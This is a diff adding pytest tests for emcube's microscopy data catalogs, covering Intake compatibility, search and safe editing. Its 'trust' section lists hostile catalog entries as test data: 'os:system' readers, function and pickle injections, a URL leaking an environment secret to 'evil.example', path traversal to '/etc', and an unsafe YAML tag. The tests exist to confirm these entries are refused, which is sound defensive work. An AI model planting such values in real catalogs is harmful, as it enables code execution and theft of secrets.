@@ -1,0 +1,321 @@
+"""Catalogs: plain Intake reads what emcube writes, searching knows microscopy, strangers' code stays off."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import numpy as np
+import pytest
+import yaml
+
+import emcube as em
+from emcube.catalog import add, create, document, open_catalog, resolve
+from emcube.errors import CatalogError, CubeError
+from emcube.store import read_digest, write_cube
+
+ROOT = Path(__file__).parents[2]
+
+
+def make_store(path: Path, value: int = 1, **metadata: object) -> Path:
+    cube = em.make_cube(
+        np.full((4, 5, 6), value, "uint8"),
+        dims=("y", "x", "energy"),
+        sig_dims=("energy",),
+        coords={"energy": np.arange(6) * 0.01},
+        units={"energy": "keV", "x": "nm", "y": "nm"},
+        metadata=metadata,
+    )
+    return write_cube(cube, path)
+
+
+@pytest.fixture(scope="session")
+def lab(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder with four stores, and a catalog of them in a folder beside."""
+    folder = tmp_path_factory.mktemp("lab")
+    path, stores = folder / "catalogs" / "lab.yaml", folder / "stores"
+    eds = {"modality": "EDS", "elements": ["Ni", "Cr", "Si"], "beam_energy_keV": 200}
+    add(path, make_store(stores / "multilayer.zarr", **eds), title="Nickel and chromium discs")
+    stone = {"modality": "EDX", "elements": "Na,Al Si", "beam_energy_keV": 15, "lab": "Bochum"}
+    add(path, make_store(stores / "b.zarr"), name="jadeite", **stone)
+    edge = {"modality": "EELS", "elements": ["Fe"], "beam_energy_keV": 300}
+    add(path, make_store(stores / "c.zarr"), name="edge", **edge)
+    add(path, make_store(stores / "d.zarr"), name="unknown")
+    return folder
+
+
+@pytest.fixture
+def catalog(lab: Path, tmp_path: Path) -> Path:
+    """A copy of the lab's catalog and stores."""
+    shutil.copytree(lab, tmp_path, dirs_exist_ok=True)
+    return tmp_path / "catalogs" / "lab.yaml"
+
+
+def test_plain_intake_reads_a_catalog(catalog: Path) -> None:
+    # In another folder, in a process of its own, where nothing of emcube can help.
+    code = f"""
+import sys
+import intake
+cat = intake.open_catalog({str(catalog)!r})
+assert sorted(cat) == ["edge", "jadeite", "multilayer", "unknown"], list(cat)
+data = cat["multilayer"].read()
+assert data["data"].shape == (4, 5, 6)
+assert data["data"].chunks is not None
+assert int(data["total_counts"].sum()) == 120
+assert cat["multilayer"].metadata["elements"] == ["Ni", "Cr", "Si"]
+assert "emcube" not in sys.modules
+"""
+    subprocess.run([sys.executable, "-c", code], check=True, timeout=200, cwd="/")
+
+
+def test_stores_are_found_beside_a_catalog_that_moved(catalog: Path, tmp_path: Path) -> None:
+    moved = tmp_path.with_name(tmp_path.name + "-moved")
+    tmp_path.rename(moved)
+    found = open_catalog(moved / "catalogs" / "lab.yaml")
+    assert found["jadeite"].open().shape == (4, 5, 6)
+    assert "{CATALOG_DIR}/../stores/b.zarr" in (moved / "catalogs" / "lab.yaml").read_text()
+
+
+def test_entries_know_what_the_store_says(catalog: Path, tmp_path: Path) -> None:
+    entry = open_catalog(catalog)["multilayer"]
+    assert entry.metadata["modality"] == "EDS"
+    assert entry.metadata["dims"] == ["y", "x", "energy"]
+    assert entry.metadata["shape"] == [4, 5, 6]
+    assert entry.metadata["digest"] == read_digest(tmp_path / "stores" / "multilayer.zarr")
+    assert entry.metadata["title"] == "Nickel and chromium discs"
+    assert entry.metadata["axes"]["energy"]["units"] == "keV"
+    assert entry.available
+    assert entry.to_json()["store"] == str(tmp_path / "stores" / "multilayer.zarr")
+    assert entry.open("total_counts").shape == (4, 5)
+
+
+@pytest.mark.parametrize(
+    ("condition", "names"),
+    [
+        ({}, ["multilayer", "jadeite", "edge", "unknown"]),
+        ({"modality": "EDS"}, ["multilayer", "jadeite"]),
+        ({"modality": "xeds"}, ["multilayer", "jadeite"]),
+        ({"modality": "STEM-EELS"}, ["edge"]),
+        ({"modality": "4D-STEM"}, []),
+        ({"elements": ["Ni", "Cr"]}, ["multilayer"]),
+        ({"elements": "si"}, ["multilayer", "jadeite"]),
+        ({"elements": ["Si", "Fe"]}, []),
+        ({"beam_energy": (80, 300)}, ["multilayer", "edge"]),
+        ({"beam_energy": 15}, ["jadeite"]),
+        ({"text": "NICKEL discs"}, ["multilayer"]),
+        ({"text": "jade"}, ["jadeite"]),
+        ({"text": "bochum", "modality": "EDS"}, ["jadeite"]),
+        ({"lab": "Bochum"}, ["jadeite"]),
+        ({"modality": "EDS", "elements": ["Ni", "Cr"], "beam_energy": (80, 300)}, ["multilayer"]),
+    ],
+)
+def test_search(catalog: Path, condition: dict, names: list[str]) -> None:
+    found = em.open_catalog(catalog).search(**condition)
+    assert list(found) == names
+    for name in found:
+        assert found[name].open().dims == ("y", "x", "energy")
+
+
+@pytest.mark.parametrize(
+    ("condition", "message"),
+    [
+        ({"elements": ["Nickel"]}, "expected symbols of chemical elements"),
+        ({"beam_energy": (300, 80)}, "lowest, highest"),
+        ({"beam_energy": "much"}, "lowest, highest"),
+        ({"beam_energy": (1, 2, 3)}, "lowest, highest"),
+    ],
+)
+def test_searches_that_make_no_sense(catalog: Path, condition: dict, message: str) -> None:
+    with pytest.raises(CatalogError, match=message):
+        open_catalog(catalog).search(**condition)
+
+
+def test_adding(catalog: Path, tmp_path: Path) -> None:
+    store = tmp_path / "stores" / "d.zarr"
+    with pytest.raises(CatalogError, match="has an entry 'jadeite' already"):
+        add(catalog, store, name="jadeite")
+    add(catalog, store, name="jadeite", overwrite=True)
+    assert "lab" not in open_catalog(catalog)["jadeite"].metadata
+    with pytest.raises(CatalogError, match="cannot be the name"):
+        add(catalog, store, name="C:jadeite")
+    with pytest.raises(CatalogError, match="does not exist"):
+        add(catalog, tmp_path / "none.zarr")
+    (tmp_path / "map.bcf").write_text("x")
+    with pytest.raises(CatalogError, match=r"not a cube store.*ingest it first"):
+        add(catalog, tmp_path / "map.bcf")
+    with pytest.raises(CubeError, match="not the symbol of a chemical element"):
+        add(catalog, store, name="x", elements=["Xy"])
+    assert len(open_catalog(catalog)) == 4
+    assert not list(catalog.parent.glob(".*"))
+
+
+def test_comments_at_the_top_survive(catalog: Path, tmp_path: Path) -> None:
+    catalog.write_text("# Our lab's cubes.\n# Ask before removing.\n" + catalog.read_text())
+    add(catalog, tmp_path / "stores" / "d.zarr", name="again")
+    assert catalog.read_text().startswith(
+        "# Our lab's cubes.\n# Ask before removing.\nversion: 2\n"
+    )
+
+
+def test_many_writers_lose_nothing(tmp_path: Path) -> None:
+    store, path = make_store(tmp_path / "a.zarr"), tmp_path / "c.yaml"
+    with ThreadPoolExecutor(8) as pool:
+        list(pool.map(lambda i: add(path, store, name=f"entry {i}"), range(12)))
+    assert len(open_catalog(path)) == 12
+
+
+def test_a_failed_change_leaves_the_file(catalog: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    before = catalog.read_bytes()
+
+    def full(path: Path, data: bytes) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(document, "replace_file", full)
+    with pytest.raises(OSError, match="No space"):
+        document.change(catalog, lambda d: d["entries"].clear())
+    assert catalog.read_bytes() == before
+
+
+def test_create(tmp_path: Path) -> None:
+    assert len(create(tmp_path / "new.yaml", title="Mine")) == 0
+    with pytest.raises(CatalogError, match="exists already"):
+        create(tmp_path / "new.yaml")
+
+
+# --- references -----------------------------------------------------------------------------------
+
+
+def test_references(catalog: Path, tmp_path: Path) -> None:
+    entry = resolve(f"{catalog}:jadeite")
+    assert entry is not None
+    assert entry.name == "jadeite"
+    assert em.open(f"{catalog}:jadeite").shape == (4, 5, 6)
+    with pytest.raises(CatalogError, match="no entry 'nephrite'"):
+        resolve(f"{catalog}:nephrite")
+    with pytest.raises(CatalogError, match="expected one of its entries"):
+        resolve(str(catalog))
+    with pytest.raises(CatalogError, match="there is no catalog"):
+        resolve("nowhere.yaml:jadeite")
+
+
+@pytest.mark.parametrize(
+    "text", ["map.bcf", r"C:\data\map.bcf", "https://host/a.zarr", "/a/b.zarr", "s3://b/a:1.zarr"]
+)
+def test_what_is_no_reference(text: str) -> None:
+    assert resolve(text) is None
+
+
+def test_a_drive_of_windows_is_no_catalog(monkeypatch: pytest.MonkeyPatch) -> None:
+    asked = []
+    monkeypatch.setattr("emcube.catalog.model.open_catalog", lambda p: asked.append(p) or {"x": 1})
+    resolve(r"C:\lab\cubes.yaml:x")
+    assert asked == [r"C:\lab\cubes.yaml"]
+
+
+def test_the_demo_catalog_says_how_to_get_its_store(tmp_path: Path) -> None:
+    text = (ROOT / "catalogs" / "demo.yaml").read_text()
+    (tmp_path / "catalogs").mkdir()
+    path = tmp_path / "catalogs" / "demo.yaml"
+    path.write_text(text)
+    with pytest.raises(CatalogError, match=r"does not exist; run `make demo` \(or `emcube demo`\)"):
+        em.open(f"{path}:srm2135c")
+    make_store(tmp_path / "demo" / "srm2135c.zarr")
+    assert em.open(f"{path}:srm2135c").shape == (4, 5, 6)
+    assert list(open_catalog(path).search(modality="EDS", elements=["Ni", "Cr"])) == ["srm2135c"]
+    code = f"import intake; print(intake.open_catalog({str(path)!r})['srm2135c'].read().data.shape)"
+    subprocess.run([sys.executable, "-c", code], check=True, timeout=200, cwd=os.sep)
+
+
+# --- trust ----------------------------------------------------------------------------------------
+
+
+def edited(catalog: Path, change) -> Path:
+    text = yaml.safe_load(catalog.read_text())
+    change(text)
+    catalog.write_text(yaml.safe_dump(text))
+    return catalog
+
+
+def data_kwargs(document: dict) -> dict:
+    return document["data"]["jadeite-data"]["kwargs"]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda d: d["entries"]["jadeite"].update(reader="os:system"),
+        lambda d: d["entries"]["jadeite"].update(reader="intake.readers.readers:PickleReader"),
+        lambda d: d["entries"]["jadeite"].update(output_instance="os:system"),
+        lambda d: d["entries"]["jadeite"]["kwargs"].update(preprocess="{func(os:system)}"),
+        lambda d: d["entries"]["jadeite"]["kwargs"].update(chunks="{func(os:getcwd)}"),
+        lambda d: d["entries"]["jadeite"]["kwargs"].update(args=["{func(os:getcwd)}"]),
+        lambda d: d["entries"]["jadeite"]["kwargs"].update(args=["{pickle64(gASVLg==)}"]),
+        lambda d: d["entries"]["jadeite"].update(user_parameters={"a": {"cls": "os:system"}}),
+        lambda d: d.update(user_parameters={"a": "{env(HOME)}"}),
+        lambda d: d["data"]["jadeite-data"].update(datatype="os:system"),
+        lambda d: d["data"]["jadeite-data"].update(user_parameters={"a": 1}),
+        lambda d: data_kwargs(d).update(url="{func(os:getcwd)}/a.zarr"),
+        lambda d: data_kwargs(d).update(url="{CATALOG_DIR}/{env(SECRET)}.zarr"),
+        lambda d: data_kwargs(d).update(url="https://evil.example/{env(SECRET)}/a.zarr"),
+        lambda d: data_kwargs(d).update(url="simplecache::https://host/a.zarr"),
+        lambda d: data_kwargs(d).update(url="ssh://host/a.zarr"),
+        lambda d: data_kwargs(d).update(url=["a.zarr"]),
+        lambda d: data_kwargs(d).update(storage_options={"key": "{env(SECRET)}"}),
+        lambda d: data_kwargs(d).update(root="../../etc"),
+        lambda d: d["data"].pop("jadeite-data"),
+        lambda d: d["entries"].update(jadeite=["not", "a", "mapping"]),
+    ],
+)
+def test_entries_that_could_run_code_are_not_opened(catalog: Path, change) -> None:
+    found = open_catalog(edited(catalog, change))
+    # Listing and searching look at data only; the other entries stay usable.
+    assert "jadeite" in found
+    assert "refused" in found["jadeite"].to_json()
+    with pytest.raises(CatalogError, match="is not opened"):
+        found["jadeite"].open()
+    with pytest.raises(CatalogError, match="is not opened"):
+        found.to_intake()
+
+
+def test_harmless_catalogs_open_with_intake(catalog: Path) -> None:
+    assert "jadeite" in open_catalog(catalog).to_intake().entries
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("!!python/object/apply:os.system ['echo']", "not valid YAML"),
+        ("version: 2\nentries: [", "not valid YAML"),
+        ("sources: {}", "Intake 1"),
+        ("version: 3", "not a catalog"),
+        ("- a list", "not a catalog"),
+        ("", "not a catalog"),
+        ("version: 2\nentries: [1]", "`entries` is a list"),
+    ],
+)
+def test_files_that_are_no_catalogs(tmp_path: Path, text: str, message: str) -> None:
+    (tmp_path / "a.yaml").write_text(text)
+    with pytest.raises(CatalogError, match=message):
+        open_catalog(tmp_path / "a.yaml")
+
+
+def test_catalogs_that_intake_wrote(catalog: Path, tmp_path: Path) -> None:
+    # Hashed keys, and names by alias; and what Intake adds when it saves a loaded catalog.
+    from intake.readers import datatypes, readers
+    from intake.readers.entry import Catalog
+
+    written = Catalog()
+    data = datatypes.Zarr(str(tmp_path / "stores" / "b.zarr"))
+    entry = readers.XArrayDatasetReader(data, engine="zarr", chunks={}, metadata={"lab": "X"})
+    token = written.add_entry(entry)
+    written.aliases["stone"] = token
+    written.to_yaml_file(str(tmp_path / "once.yaml"))
+    Catalog.from_yaml_file(str(tmp_path / "once.yaml")).to_yaml_file(str(tmp_path / "twice.yaml"))
+    for name in ("once.yaml", "twice.yaml"):
+        found = open_catalog(tmp_path / name)
+        assert list(found) == ["stone"]
+        assert found["stone"].open().shape == (4, 5, 6)
